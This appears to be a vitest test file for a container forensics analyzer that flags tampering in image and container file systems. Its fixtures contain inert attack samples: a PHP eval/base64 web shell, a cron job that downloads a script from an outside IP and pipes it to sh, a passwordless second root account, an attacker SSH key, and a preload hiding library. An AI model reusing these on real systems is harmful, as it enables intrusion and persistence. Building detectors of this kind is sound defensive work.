import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import files from '../../../../src/main/analyze/analyzers/files';
import type { TargetRef } from '../../../../src/shared/domain';
import { type Member, tarOf } from '../formats/tar-kit';
import { analyze, byRule, cited, type Given, WEB } from '../kit';

const md5 = (text: string | Buffer) => createHash('md5').update(text).digest('hex');
const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
const IMAGE: TargetRef = { kind: 'image', id: `sha256:${'a'.repeat(64)}`, name: 'web:1' };
const ELF = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1'), Buffer.alloc(120, 0x90)]);
const CREATED = Date.parse('2026-11-20T10:00:00Z') / 1000;

/** A small Debian: programs, their package's digests, a diversion, accounts, a web root. */
const BASE: Member[] = [
  { name: './', type: '5' },
  { name: 'etc/', type: '5' },
  { name: 'etc/passwd', body: 'root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n' },
  { name: 'etc/shadow', body: 'root:*:19000:0:99999:7:::\n', mode: 0o640 },
  { name: 'etc/nginx.conf', body: 'worker_processes 1;\n' },
  { name: 'bin', type: '2', link: 'usr/bin' },
  { name: 'usr/bin/', type: '5' },
  { name: 'usr/bin/ls', body: ELF, mode: 0o755 },
  { name: 'usr/bin/su', body: Buffer.concat([ELF, Buffer.from('su')]), mode: 0o4755 },
  { name: 'usr/bin/awk.moved', body: 'awk', mode: 0o755 },
  { name: 'root/', type: '5', mode: 0o700 },
  { name: 'root/.bashrc', body: '# ~/.bashrc\nexport LS_OPTIONS=--color\n' },
  { name: 'tmp/', type: '5', mode: 0o1777 },
  { name: 'var/log/dpkg.log', body: 'installed\n' },
  { name: 'var/www/html/index.php', body: '<?php echo "hello"; ?>\n' },
  {
    name: 'var/lib/dpkg/status',
    body: 'Package: tools\nStatus: install ok installed\nVersion: 1.2-3\nConffiles:\n /etc/nginx.conf 0123\n',
  },
  {
    name: 'var/lib/dpkg/info/tools.md5sums',
    body: `${md5(ELF)}  bin/ls\n${md5(Buffer.concat([ELF, Buffer.from('su')]))}  usr/bin/su\n${md5('awk')}  usr/bin/awk\n`,
  },
  { name: 'var/lib/dpkg/info/tools.list', body: '/.\n/etc\n/etc/nginx.conf\n/usr/bin/su\n' },
  { name: 'var/lib/dpkg/diversions', body: '/usr/bin/awk\n/usr/bin/awk.moved\nothers\n' },
];

const layer = tarOf(BASE);
const inspects = (bytes: Buffer): Given[] => [
  {
    collector: 'image.inspect',
    target: IMAGE,
    content: { Id: IMAGE.id, RootFS: { Type: 'layers', Layers: [`sha256:${sha256(bytes)}`] } },
  },
  { collector: 'container.inspect', content: { Id: WEB.id, Image: IMAGE.id, Created: '2026-11-20T10:00:00Z' } },
  { collector: 'image.layers', kind: 'tar', target: IMAGE, content: bytes },
];
const upper = (members: readonly Member[]): Given[] => [
  ...inspects(layer),
  { collector: 'container.upper', kind: 'tar', content: tarOf(members) },
];
const late = { mtime: CREATED + 3600 };

describe('file systems that nothing was done to', () => {
  it('make no finding: the plain image, its export, an empty upper directory, what an ordinary start writes', async () => {
    const started: Member[] = [
      { name: './', type: '5', ...late },
      { name: 'run/nginx.pid', body: '1\n', ...late },
      { name: 'var/log/nginx/access.log', body: '10.0.0.1 - - "GET / HTTP/1.1" 200\n', ...late },
      { name: 'var/cache/nginx/proxy_temp/', type: '5', uid: 33, mode: 0o700, ...late },
      { name: 'etc/hosts', body: '', ...late },
      { name: 'etc/nginx.conf', body: 'worker_processes 2;\n', ...late },
    ];
    for (const given of [
      inspects(layer),
      upper([{ name: './', type: '5', ...late }]),
      upper(started),
      [...inspects(layer), { collector: 'container.export', kind: 'tar' as const, content: tarOf(BASE) }],
      // without any layer, with and without the engine's list
      [{ collector: 'container.export', kind: 'tar' as const, content: layer }],
      [
        { collector: 'container.changes', content: [] },
        { collector: 'container.export', kind: 'tar' as const, content: layer },
      ],
    ] satisfies Given[][]) {
      const result = await analyze(given, [files]);
      expect(result.unreadable).toEqual([]);
      expect(result.findings.map(({ rule, claim }) => `${rule}: ${claim}`)).toEqual([]);
    }
  });
});

describe('what was done to a container', () => {
  const shell = '<?php @eval(base64_decode($_POST["x"])); ?>';
  const given = upper([
    { name: './', type: '5', ...late },
    { name: 'usr/local/bin/.rootsh', body: ELF, mode: 0o4755, ...late },
    { name: 'usr/bin/ls', body: Buffer.concat([ELF, Buffer.from('evil')]), mode: 0o755, ...late },
    { name: 'dev/shm/x', body: ELF, mode: 0o644, ...late },
    { name: 'etc/ld.so.preload', body: '/usr/local/lib/libhide.so\n', ...late },
    { name: 'usr/local/lib/libhide.so', body: ELF, mode: 0o755, ...late },
    { name: 'etc/passwd', body: 'root:x:0:0:root:/root:/bin/sh\ntoor:x:0:0::/root:/bin/bash\n', ...late },
    { name: 'etc/shadow', body: 'root:*:19000:0:99999:7:::\ntoor::19000:0:99999:7:::\n', mode: 0o666, ...late },
    { name: 'root/.ssh/authorized_keys', body: `ssh-ed25519 ${'A'.repeat(68)} c2@evil\n`, mode: 0o600, ...late },
    { name: 'etc/cron.d/up', body: '# m h\n* * * * * root curl -s http://198.51.100.7/x.sh | sh\n', ...late },
    { name: 'root/.bash_history', type: '2', link: '/dev/null', ...late },
    { name: 'var/www/html/up.php', body: `<?php\n// up\n${shell}`, ...late },
    { name: 'app/.env', body: 'MODE=prod\nDB_PASSWORD=tr0ub4dor&3\n', ...late },
    {
      name: 'opt/old',
      body: '#!/bin/sh\n',
      mode: 0o755,
      mtime: CREATED - 90 * 86_400,
      pax: { ctime: `${CREATED + 60}.5` },
    },
    { name: 'var/log/dpkg.log', type: '3', device: [0, 0], ...late },
    { name: 'mnt/disk', type: '4', device: [8, 1], mode: 0o600, ...late },
  ]);

  it('is found, each with places that say so', async () => {
    const result = await analyze(given, [files]);
    expect(result.unreadable).toEqual([]);
    const claims = (rule: string) => byRule(result, rule).map(({ claim }) => claim);
    expect(claims('fs.setuid')).toEqual([expect.stringContaining('/usr/local/bin/.rootsh (mode 4755, owner 0:0')]);
    expect(claims('fs.package-drift')).toEqual([expect.stringContaining('/usr/bin/ls, of the package tools 1.2-3')]);
    expect(claims('fs.executable-drift').sort()).toEqual([
      expect.stringContaining('/dev/shm/x'),
      expect.stringContaining('/usr/local/bin/.rootsh'),
      expect.stringContaining('/usr/local/lib/libhide.so'),
    ]);
    expect(claims('fs.preload')).toEqual([expect.stringContaining(`libhide.so (SHA-256 ${sha256(ELF)})`)]);
    expect(claims('fs.second-root')).toEqual([expect.stringContaining('the account toor the UID 0')]);
    expect(claims('fs.no-password')).toEqual([expect.stringContaining('no password for toor')]);
    expect(claims('fs.world-writable')).toEqual([expect.stringContaining('/etc/shadow (0666)')]);
    expect(claims('fs.ssh-key')).toEqual([expect.stringContaining('c2@evil')]);
    expect(claims('fs.command')).toEqual([expect.stringContaining('downloads something and runs it')]);
    expect(claims('fs.history-off')).toEqual([expect.stringContaining('a link to /dev/null')]);
    expect(claims('fs.web-shell')).toEqual([expect.stringContaining('/var/www/html/up.php')]);
    expect(claims('fs.timestomp')).toEqual([expect.stringContaining('/opt/old')]);
    expect(claims('fs.device')).toEqual([expect.stringContaining('/mnt/disk')]);
    // by the names, as the engine's list would tell them: the whiteout of a log
    expect(claims('files.logs-deleted')).toEqual([expect.stringContaining('/var/log/dpkg.log')]);
  });

  it('is cited to the byte: the line, the match, the secret that is masked in the claim', async () => {
    const result = await analyze(given, [files]);
    const said = async (rule: string) => {
      const [finding] = byRule(result, rule);
      return finding ? await cited(given, finding) : [];
    };
    expect((await said('fs.second-root'))[0]).toBe('toor:x:0:0::/root:/bin/bash');
    expect((await said('fs.command'))[0]).toBe('* * * * * root curl -s http://198.51.100.7/x.sh | sh');
    expect((await said('fs.web-shell'))[0]).toBe('eval(base64_decode($_POST');
    expect((await said('fs.secret'))[0]).toBe('DB_PASSWORD=tr0ub4dor&3');
    expect((await said('fs.package-drift'))[0]).toContain('evil');
    const [secret] = byRule(result, 'fs.secret');
    expect(secret?.claim).not.toContain('tr0ub4dor');
    const [log] = byRule(result, 'files.logs-deleted');
    expect(log?.cites[0]?.exhibit).toBe('E0004');
  });

  it('is not told twice where the engine listed the changes, or where an export lies beside', async () => {
    const twice: Given[] = [
      ...given,
      { collector: 'container.export', kind: 'tar', content: layer },
      { collector: 'container.changes', content: [{ Path: '/var/log/dpkg.log', Kind: 2 }] },
    ];
    const result = await analyze(twice, [files]);
    expect(byRule(result, 'files.logs-deleted')).toEqual([]);
    expect(byRule(result, 'fs.setuid')).toHaveLength(1);
  });
});

describe('evidence that is broken or hostile', () => {
  it('is said, and what could be read is looked at', async () => {
    const passwd = { name: 'etc/passwd', body: 'root:x:0:0::/:/bin/sh\nx:x:0:0::/:/bin/sh\n', ...late };
    const whole = tarOf([passwd, { name: '../../etc/cron.d/x', body: 'x' }, { name: 'big', body: 'y'.repeat(4000) }]);
    const result = await analyze(
      [{ collector: 'container.export', kind: 'tar', content: whole.subarray(0, 3500) }],
      [files],
    );
    expect(byRule(result, 'fs.second-root')).toHaveLength(1);
    expect(result.unreadable.map(({ reason }) => reason)).toEqual([
      expect.stringContaining('leads out of the file system'),
      expect.stringContaining('ends in the middle of a member'),
    ]);
  });

  it('a changed exhibit makes no finding', async () => {
    const result = await analyze(
      [{ collector: 'container.export', kind: 'tar', content: layer, sha256: 'f'.repeat(64) }],
      [files],
    );
    expect(result.findings).toEqual([]);
    expect(result.unreadable).toEqual([{ exhibit: 'E0001', reason: expect.stringContaining('SHA-256 differs') }]);
  });

  it('corrupt package databases say nothing of files', async () => {
    const broken: Member[] = [
      { name: 'var/lib/dpkg/status', body: Buffer.from([0, 255, 1, 2]) },
      { name: 'var/lib/dpkg/info/a.md5sums', body: `zz\n${'0'.repeat(32)}\n\n${'f'.repeat(32)}  ../../etc/passwd\n` },
      { name: 'lib/apk/db/installed', body: 'Z:Q1!!!\nR:\nF:../..\nR:x\nZ:Q1AAAA\n' },
      { name: 'etc/passwd', body: 'root:x:0:0::/:/bin/sh\n' },
    ];
    const result = await analyze([{ collector: 'container.export', kind: 'tar', content: tarOf(broken) }], [files]);
    expect(result.findings).toEqual([]);
    expect(result.unreadable).toEqual([]);
  });
});
